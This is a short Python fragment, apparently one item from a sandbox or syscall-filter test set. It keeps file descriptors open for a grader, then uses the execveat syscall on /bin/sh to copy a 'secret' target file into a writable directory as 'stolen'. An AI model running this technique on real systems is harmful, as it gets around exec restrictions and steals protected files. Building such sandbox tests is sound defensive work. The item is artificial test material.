"""Becomes another program by its descriptor."""

# row: 41
# aim: write

for descriptor in range(3, 64):  # so that the pipe stays open, and the grader waits
    try:
        os.set_inheritable(descriptor, True)
    except OSError:
        continue
line = f"cat {TARGETS['secret']} > {TARGETS['writable']}/stolen"
arguments = (ctypes.c_char_p * 4)(b"sh", b"-c", line.encode(), None)
nothing = (ctypes.c_char_p * 1)(None)
shell = os.open("/bin/sh", os.O_RDONLY)
syscall("execveat", shell, b"", arguments, nothing, 0x1000)
